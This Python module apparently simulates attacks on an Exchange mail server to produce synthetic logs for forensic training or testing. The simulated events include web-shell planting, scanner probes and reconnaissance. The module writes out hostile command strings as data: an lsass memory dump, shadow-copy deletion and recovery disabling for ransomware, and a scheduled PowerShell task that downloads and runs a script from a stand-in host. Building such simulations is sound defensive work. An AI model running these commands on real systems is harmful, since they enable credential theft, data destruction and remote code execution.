"""Tells the fate of one server as rows and files, with the hands and deeds of `range/hands`."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date, datetime, time, timedelta
from random import Random

from msgspec import structs

from afterpatch.range import server, traffic, windows
from afterpatch.range.draw import below, letters, pick
from afterpatch.range.fleet.fate import Fate, Hit
from afterpatch.range.fleet.world import COMMON_NAMES, SCANNER_AGENTS
from afterpatch.range.hands.cast import Cast, Client, Hand
from afterpatch.range.hands.play import PUBLIC_HASHES, PUBLIC_TOOL, Door, Play, Session
from afterpatch.range.incident import probe
from afterpatch.range.server import Server, User
from afterpatch.range.stage import (
    ASPNET_CLIENT,
    COMPILED_OWA,
    COMPILED_ROOT,
    DAY,
    HOUR,
    MINUTE,
    OWA_AUTH,
    SECOND,
    Planned,
    Stage,
)
from afterpatch.range.web import Request

USERS = 12
_PEOPLE = 3  # requests of people a day, where no carrier's address has to show as one
_BEHIND_CARRIER = 9  # different users a day
_ASKED = (
    "/owa/auth/babydraco.aspx", "/owa/auth/RedirSuiteServerProxy.aspx", "/owa/auth/shell.aspx",
    "/owa/auth/OutlookUS.aspx", "/aspnet_client/supp0rt.aspx", "/aspnet_client/discover.aspx",
    "/aspnet_client/client.aspx", "/aspnet_client/help.aspx",
)  # fmt: skip
_DUMPED, _ENCRYPTED, _TASK = (
    "the memory of lsass is written to a file", "a file is encrypted", "a task is registered",
)  # fmt: skip
IMPACTS = (_DUMPED, _ENCRYPTED, _TASK)  # what is said of rows that show that something followed
_LOOKING_ROUND = ("whoami", "ipconfig /all", "tasklist", "quser", "systeminfo", "net user")


class Told(Play):
    """A story of one server. `named` is the page name that the next planter wants, if any."""

    named = ""

    def new_page(self, known: float, beside: Sequence[Door] = ()) -> tuple[str, str, str]:
        """As the play's, under the name the planter wants."""
        del beside
        name = self.named or (
            pick(self.rng, COMMON_NAMES)
            if self.rng.random() < known
            else f"{letters(self.rng, 8)}.aspx"
        )
        while name in self.names:
            name = f"{letters(self.rng, 8)}.aspx"
        self.names.add(name)
        if self.rng.random() < 0.5:
            return f"{OWA_AUTH}\\{name}", f"/owa/auth/{name}", COMPILED_OWA
        return f"{ASPNET_CLIENT}\\{name}", f"/aspnet_client/{name}", COMPILED_ROOT


def furnish(seed: int, number: int, fate: Fate) -> Server:
    """The server with few people, whose addresses outside are this organization's alone."""
    mail = server.furnish(seed * 1_000_003 + number)

    def outside(nth: int) -> str:
        if fate.front == "nat":
            return fate.gate
        if number < 1 << 14:
            return f"198.19.{number >> 6}.{(number & 63) * 4 + nth % 4}"
        return f"2001:db8:f{number & 0xFFF:03x}:{number >> 12:x}::{nth % 4 + 1}"

    users = tuple(
        structs.replace(user, outside=outside(nth)) for nth, user in enumerate(mail.users[:USERS])
    )
    return structs.replace(mail, users=users)


def tell(seed: int, number: int, fate: Fate, mail: Server) -> Told:
    """The story, happenings in order of time."""
    rng = Random(f"{seed}/fleet/story/{number}")
    days = (fate.last - fate.first).days + 1
    outage = range(0)
    if fate.patched is not None and fate.patched > fate.first:
        begun = (fate.patched - fate.first).days * DAY + 19 * HOUR + below(rng, 90) * MINUTE
        outage = range(begun, begun + 40 * MINUTE)

    def build(at: int) -> str:
        return fate.patched_build if outage and at >= outage.stop else fate.build

    stage = Stage(rng=rng, mail=mail, build=build, days=days, clock=0, address="")
    play = Told(stage, Cast(fate.front, fate.gate, []), fate.first, outage)
    for hit in fate.hits:
        _come(play, hit, fate)
    for address in fate.scanners:
        _scan(play, address)
    _ordinary(play, fate, mail)
    stage.done.sort(key=lambda happening: happening.at)
    return play


# ------------------------------------------------------------------ crews


def _come(play: Told, hit: Hit, fate: Fate) -> None:
    rng, crew = play.rng, hit.crew
    clients = [
        Client(f"{crew.id}/{nth}", address, crew.agent) for nth, address in enumerate(hit.addresses)
    ]
    for client in clients:
        client.does |= {"parameter"} if hit.names_itself else set()
    hand = Hand(crew.id, "automation", "intruder", clients)
    hand.secret, hand.tool, hand.hashes = crew.secret, crew.tool, crew.hashes
    play.cast.hands.append(hand)
    at = (hit.day - fate.first).days * DAY + below(rng, 18) * HOUR
    session = Session(play, clients[0], hand, _when_up(play, at))
    if hit.deed == "attempt":
        left = probe(rng, clients[0].address, play.stage.build(session.clock), crew.agent)
        play.lay(session.clock, clients[0], left, "the chain fails at its first request", "probe")
        return
    if hit.deed in ("mail", "plant"):
        _enter(play, session, hit, clients)
        return
    doors = play.standing(session.clock)
    if not doors:
        return
    door = pick(rng, doors)
    for client in clients:
        visit = Session(play, client, hand, session.clock)
        for command in ("whoami", pick(rng, _LOOKING_ROUND))[: 1 + below(rng, 2)]:
            visit.visit(door, command)
            visit.wait(25 * SECOND)
        session.clock = visit.clock + 5 * MINUTE
    session.wait(10 * MINUTE)
    if hit.armed:
        _arm(session, door, hand)
    elif rng.random() < 0.25:
        image = f"C:\\Windows\\Temp\\{PUBLIC_TOOL}"
        session.upload(door, image, "a public program is dropped")
        dump = f"C:\\Windows\\Temp\\{letters(rng, 5)}.dmp"
        session.visit(
            door, f"{image} -accepteula -ma lsass.exe {dump}", image=image, hashes=PUBLIC_HASHES
        )
        opened = [windows.lsass_opened(image, 5120), windows.file_created(image, 5120, dump)]
        session.lay(opened, _DUMPED, "command", before=900)
    if hit.deed == "ransomware":
        _ransomware(session, door)
    elif hit.deed == "miner":
        _miner(session, door)


def _enter(play: Told, session: Session, hit: Hit, clients: Sequence[Client]) -> None:
    rng, crew = play.rng, hit.crew
    resource, canary = session.resource(), f"{letters(rng, 75)}."
    if hit.deed == "mail":
        session.look(resource)
        session.read_mail(resource, [pick(rng, play.stage.mail.users)])
        if rng.random() < 0.6:
            return
        session.wait(6 * HOUR)
        session.clock = _when_up(play, session.clock)
    session.enter(resource, canary)
    play.named = pick(rng, crew.names) if crew.names and rng.random() < 0.8 else ""
    door = session.reset(resource, canary, known=0.5)
    play.named = ""
    session.wait(25 * SECOND)
    for client in clients:
        check = Session(play, client, session.hand, session.clock)
        check.visit(door)
        check.wait(20 * SECOND)
        session.clock = check.clock
    if hit.armed:
        _arm(session, door, session.hand)


def _arm(session: Session, door: Door, hand: Hand) -> None:
    session.upload(door, hand.tool, "a program is dropped")
    session.wait(8 * SECOND)
    session.visit(door, f"{hand.tool} -s", image=hand.tool, hashes=hand.hashes)


def _ransomware(session: Session, door: Door) -> None:
    image = "C:\\Windows\\Temp\\msupdate.exe"
    for command in (
        "vssadmin.exe delete shadows /all /quiet",
        "bcdedit /set {default} recoveryenabled no",
    ):
        session.visit(door, command)
        session.wait(4 * SECOND)
    session.lay([windows.service_installed("msupdate", image)], "the program's service", "command")
    for _ in range(6):
        name = f"D:\\Shares\\Projects\\{letters(session.rng, 7).lower()}.docx.CRYPT"
        session.lay([windows.file_created(image, 7788, name)], _ENCRYPTED, "command")
        session.clock += SECOND
    note = "D:\\Shares\\Projects\\readme.txt"
    session.lay([windows.file_created(image, 7788, note)], "a ransom note is left", "command")


def _miner(session: Session, door: Door) -> None:
    script = (
        "-w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://t.example.net/a.jsp')"
    )
    task = f"\\rtsa{below(session.rng, 90) + 10}"
    session.visit(
        door, f'schtasks /create /ru system /sc MINUTE /mo 60 /tn {task[1:]} /f /tr "powershell '
        f'{script}"',
    )  # fmt: skip
    registered = windows.task(task, "powershell", script.replace("'", "&apos;"))
    session.lay(registered, _TASK, "command", before=1100)


def _when_up(play: Told, at: int) -> int:
    """The time, or the first after the outage when an hour from it would fall into it."""
    outage = play.outage
    if outage and at < outage.stop and at + HOUR > outage.start:
        return outage.stop + 5 * MINUTE
    return at


# ------------------------------------------------------------------ everybody else


def _scan(play: Told, address: str) -> None:
    """Asks everybody for pages that others may have left; on some servers one is there."""
    rng, stage = play.rng, play.stage
    since = max(0, (date(2021, 3, 4) - play.first).days)
    if since >= stage.days:
        return
    at = _when_up(play, since * DAY + below(rng, (stage.days - since) * 24) * HOUR)
    client = Client(f"scanner/{address}", address, pick(rng, SCANNER_AGENTS))
    session = Session(play, client, Hand("scanner", "scanner", "scanner", [client]), at)
    standing = {door.page.url for door in play.standing(at)}
    for _ in range(1 + below(rng, 4)):
        stem = pick(rng, _ASKED)
        behind = stem.startswith("/owa/")
        request = Request(
            protocol="Owa" if behind else "",
            method=pick(rng, ("GET", "GET", "HEAD")),
            stem=stem,
            auth="FBA" if behind else "",
            agent=client.agent,
            address=address,
            host=server.PUBLIC_ADDRESS,
            status=200 if stem in standing else 302 if behind else 404,
            back_status=None,
        )
        session.ask(request, f"scanner asks for {stem}", "scan", took=4)
    if rng.random() < 0.5:
        left = probe(rng, address, stage.build(session.clock), client.agent)
        play.lay(session.clock, client, left, "ProxyLogon probe, not answered", "probe", took=5)


def _ordinary(play: Told, fate: Fate, mail: Server) -> None:
    """A few requests of people and of the server's own monitoring, every day."""
    rng, stage = play.rng, play.stage
    acts: dict[str, tuple[list[traffic.Act], list[traffic.Act]]] = {}
    for day in range(stage.days):
        build = stage.build(day * DAY)
        if build not in acts:
            cast = traffic.Cast(rng, mail, build, fate.first)
            acts[build] = (
                traffic.pool(cast, traffic.PEOPLE, 24),
                traffic.pool(cast, ((4, traffic.probe), (1, traffic.security)), 10),
            )
        people, machines = acts[build]
        # Logs of an hour and a protocol are files with long headers: most of a small server.
        one = pick(rng, people)
        alike = [act for act in people if act.rows[0][0] == one.rows[0][0]]
        drawn = [pick(rng, alike) for _ in range(_PEOPLE)] + [pick(rng, machines)]
        if fate.front == "nat":
            drawn += _behind_carrier(mail, build, fate, rng)
        hour = day * DAY + (6 + below(rng, 13)) * HOUR
        for act in drawn:
            at = _when_up(play, hour + below(rng, HOUR // 2))
            stage.done.append(Planned(at, act.rows, "ordinary", "", "", act.took, act.got))


def _behind_carrier(mail: Server, build: str, fate: Fate, rng: Random) -> list[traffic.Act]:
    """One request of each of several people from the address they share."""
    acts = []
    for nth in range(_BEHIND_CARRIER):
        alone = structs.replace(mail, users=(_abroad(mail.users[nth]),))
        acts.append(traffic.eas_sync(traffic.Cast(rng, alone, build, fate.first)))
    return acts


def _abroad(user: User) -> User:
    return structs.replace(user, inside=user.outside)


def moment(first: date, at: int) -> datetime:
    """A time of the story, in UTC."""
    return datetime.combine(first, time()) + timedelta(milliseconds=at)
